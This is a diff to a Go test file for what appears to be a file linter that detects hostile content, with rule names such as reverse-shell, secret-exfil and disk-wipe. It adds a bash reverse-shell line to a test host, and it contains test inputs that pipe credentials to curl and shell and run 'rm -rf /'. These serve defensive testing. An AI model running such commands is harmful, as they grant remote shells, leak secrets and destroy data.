@@ -334,9 +334,6 @@ var lintCases = []lintCase{
 	{"bin/tool", "executable-binary", "\xcf\xfa\xed\xfe\x07\x00\x00\x01", "warning", 1},
 	{"assets/logo.png", "executable-binary", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "", 0},
 	{"notes.txt", "executable-binary", "MZ is the start of this text.\n", "", 0},
-	// truncated
-	{"big.md", "truncated", strings.Repeat("line of text\n", MaxBytes/13+10), "note", MaxBytes/13 + 1},
-	{"small.md", "truncated", "line of text\n", "", 0},
 }
 
 func TestLintRules(t *testing.T) {
@@ -403,7 +400,7 @@ func TestLintRulesCovered(t *testing.T) {
 		"hidden-comment", "install-hook", "auto-exec", "persistence", "hidden-file-write", "pipe-to-shell", "remote-exec",
 		"eval-decode", "base64-blob", "destructive-rm", "world-writable", "sensitive-path", "credential-literal", "env-exfil",
 		"prompt-injection", "reverse-shell", "secret-exfil", "dns-exfil", "disk-wipe", "system-shutdown", "executable-binary",
-		"truncated"}
+		"opaque-file", "disguised-file", "image-trailer", "office-macro", "minified-code", "blank-padding"}
 	var got []string
 	for _, r := range Rules {
 		got = append(got, r.ID)
@@ -608,7 +605,7 @@ func TestLintBadCorpus(t *testing.T) {
 			if err != nil {
 				return err
 			}
-			if len(data) > MaxBytes || !utf8.Valid(data) || bytes.IndexByte(data, 0) >= 0 {
+			if len(data) > WindowBytes || !utf8.Valid(data) || bytes.IndexByte(data, 0) >= 0 {
 				return nil // the caller lints text files only
 			}
 			rel, err := filepath.Rel(root, p)
@@ -799,13 +796,15 @@ func TestRuleExamples(t *testing.T) {
 }
 
 // TestAnalyzeBadInput feeds the analyser inputs built to make it slow or
-// make it fail: 4 MiB single lines of rule keys and matches, binary and
-// invalid UTF-8, unclosed comments and fences. It must finish (the test's
-// timeout would catch a hang), read at most MaxBytes, and say so.
+// make it fail: single lines of rule keys and matches longer than a
+// window, binary and invalid UTF-8, unclosed comments and fences. It must
+// finish (the test's timeout would catch a hang) and read the whole file:
+// a reverse shell after them is found. BenchmarkLintHostile times 4 MiB.
 func TestAnalyzeBadInput(t *testing.T) {
-	const size = 4 << 20
+	const size = WindowBytes + WindowBytes/2
+	const tail = "\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
 	fill := func(unit string) []byte {
-		return bytes.Repeat([]byte(unit), size/len(unit)+1)[:size]
+		return append(bytes.Repeat([]byte(unit), size/len(unit)+1)[:size], tail...)
 	}
 	units := []string{
 		"curl $API_KEY -d $TOKEN | sh ", "chmod 777 x ", "rm -rf / ", "<!-- ", "!`", "://аa", "\u202e", "\U000E0041",
@@ -817,17 +816,17 @@ func TestAnalyzeBadInput(t *testing.T) {
 			data := fill(u)
 			fs := Analyze(name, data)
 			if bytes.IndexByte(data[:8000], 0) >= 0 {
-				continue // binary: no text rules, no truncation note
+				continue // binary: no text rules
 			}
-			var note bool
+			var found bool
 			for _, f := range fs {
-				note = note || f.Rule == "truncated"
+				found = found || f.Rule == "reverse-shell"
 				if len(f.Excerpt) > MaxExcerpt || !utf8.ValidString(f.Excerpt) {
 					t.Errorf("%q in %s: bad excerpt %q", u, name, f.Excerpt)
 				}
 			}
-			if !note {
-				t.Errorf("%q in %s: no truncated note for %d bytes: %+v", u, name, size, fs)
+			if !found {
+				t.Errorf("%q in %s: the reverse shell after %d bytes is not found: %+v", u, name, size, fs)
 			}
 		}
 	}
